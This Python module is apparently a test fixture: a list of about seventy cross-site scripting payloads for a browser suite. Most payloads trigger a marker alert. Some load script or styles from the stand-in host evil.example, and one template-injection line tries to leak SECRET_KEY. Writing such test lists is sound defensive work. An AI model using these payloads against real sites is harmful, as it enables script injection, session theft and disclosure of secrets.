"""Cross-site scripting payloads posted into every text field and every query parameter.

Each payload that would run calls ``alert('XSS-MARKER')`` or ``console.log('XSS-MARKER')``, so the
browser suite can tell an executed payload from anything else. The list covers script tags, event
handlers, ``javascript:`` and ``data:`` URLs, SVG/MathML, Markdown link and image tricks, HTML
entities and encodings, attribute- and element-breaking quotes, mutation XSS, unicode and bidi
tricks, htmx attributes and template injection.
"""

MARKER = "XSS-MARKER"
# A template engine that evaluated user text would print this number.
TEMPLATE_SENTINEL = "424249"

PAYLOADS = [
    # Script elements.
    "<script>alert('XSS-MARKER')</script>",
    "<script>console.log('XSS-MARKER')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:text/javascript,alert('XSS-MARKER')></script>",
    "<scr<script>ipt>alert('XSS-MARKER')</scr</script>ipt>",
    "<script>/*</script><script>*/alert('XSS-MARKER')</script>",
    # Event handlers.
    "<img src=x onerror=alert('XSS-MARKER')>",
    "<img src=\"x\" onerror=\"console.log('XSS-MARKER')\">",
    "<img src=x:alert(alt) onerror=eval(src) alt='XSS-MARKER'>",
    "<body onload=alert('XSS-MARKER')>",
    "<details open ontoggle=alert('XSS-MARKER')>",
    "<input autofocus onfocus=alert('XSS-MARKER')>",
    "<video><source onerror=alert('XSS-MARKER')></video>",
    "<marquee onstart=alert('XSS-MARKER')>m</marquee>",
    "<x onpointerenter=alert('XSS-MARKER') style=display:block>x</x>",
    "<isindex type=image src=1 onerror=alert('XSS-MARKER')>",
    # SVG and MathML.
    "<svg onload=alert('XSS-MARKER')>",
    "<svg><script>alert('XSS-MARKER')</script></svg>",
    "<svg><animate onbegin=alert('XSS-MARKER') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('XSS-MARKER')\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS-MARKER')>",
    # Frames, objects and URLs.
    "<iframe src=\"javascript:alert('XSS-MARKER')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS-MARKER')</script>\">",
    "<object data=\"javascript:alert('XSS-MARKER')\">",
    "<embed src=\"javascript:alert('XSS-MARKER')\">",
    "<a href=\"javascript:alert('XSS-MARKER')\">clic</a>",
    "<a href=\"&#x6A;avascript:alert('XSS-MARKER')\">clic</a>",
    "<form action=\"javascript:alert('XSS-MARKER')\"><button>go</button></form>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS-MARKER')\">",
    "javascript:alert('XSS-MARKER')",
    # Styles.
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert('XSS-MARKER'))\">s</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # Breaking out of attributes and elements.
    "\"><script>alert('XSS-MARKER')</script>",
    "'><img src=x onerror=alert('XSS-MARKER')>",
    "\" onmouseover=\"alert('XSS-MARKER')\" x=\"",
    "' autofocus onfocus='alert(`XSS-MARKER`)' x='",
    "</textarea><script>alert('XSS-MARKER')</script>",
    "</title><script>alert('XSS-MARKER')</script>",
    "</script><script>alert('XSS-MARKER')</script>",
    "<!--<img src=\"--><img src=x onerror=alert('XSS-MARKER')>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS-MARKER')>\">",
    "<template><img src=x onerror=alert('XSS-MARKER')></template>",
    # Markdown link and image tricks.
    "[clic](javascript:alert('XSS-MARKER'))",
    "[clic](JaVaScRiPt:alert('XSS-MARKER'))",
    "[clic](javascript&#58;alert('XSS-MARKER'))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTLU1BUktFUicpPC9zY3JpcHQ+)",
    "![img](x\" onerror=\"alert('XSS-MARKER'))",
    "![img](javascript:alert('XSS-MARKER'))",
    "[a](https://ok.example \"t\\\" onmouseover=\\\"alert('XSS-MARKER')\")",
    "<https://ok.example/\" onmouseover=\"alert('XSS-MARKER')>",
    "<javascript:alert('XSS-MARKER')>",
    "[ref][x]\n\n[x]: javascript:alert('XSS-MARKER')",
    "`<script>alert('XSS-MARKER')</script>`",
    "**<img src=x onerror=alert('XSS-MARKER')>**",
    # Entities and encodings.
    "&lt;script&gt;alert('XSS-MARKER')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('XSS-MARKER')&#62;",
    "\\u003cscript\\u003ealert('XSS-MARKER')\\u003c/script\\u003e",
    "%3Cscript%3Ealert('XSS-MARKER')%3C/script%3E",
    "\uff1cscript\uff1ealert('XSS-MARKER')\uff1c/script\uff1e",
    # Unicode and bidi tricks.
    "\u202eRLO <script>alert('XSS-MARKER')</script>",
    "\u2066isolat\u2069 \u200b<img src=x onerror=alert('XSS-MARKER')>",
    "<scr\u200bipt>alert('XSS-MARKER')</scr\u200bipt>",
    "\ufeff<svg/onload=alert('XSS-MARKER')>",
    # Template injection, server and client side, and htmx attributes.
    "{{ 7|add:424242 }}{% debug %}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('alert(\"XSS-MARKER\")')()}}",
    "${alert('XSS-MARKER')}#{alert('XSS-MARKER')}",
    "<div hx-get=\"/moi/donnees.json\" hx-trigger=\"load\" hx-target=\"body\">htmx XSS-MARKER</div>",
    "<div hx-on:click=\"alert('XSS-MARKER')\" hx-on::load=\"alert('XSS-MARKER')\">h</div>",
]


def packs(payloads, limit: int, sep: str = " ") -> list[str]:
    """Pack payloads into as few strings of at most ``limit`` characters as possible (in order);
    a payload longer than the limit is cut, which is still a payload."""
    out, current = [], ""
    for payload in payloads:
        payload = payload[:limit]
        if current and len(current) + len(sep) + len(payload) > limit:
            out.append(current)
            current = payload
        else:
            current = f"{current}{sep}{payload}" if current else payload
    if current:
        out.append(current)
    return out
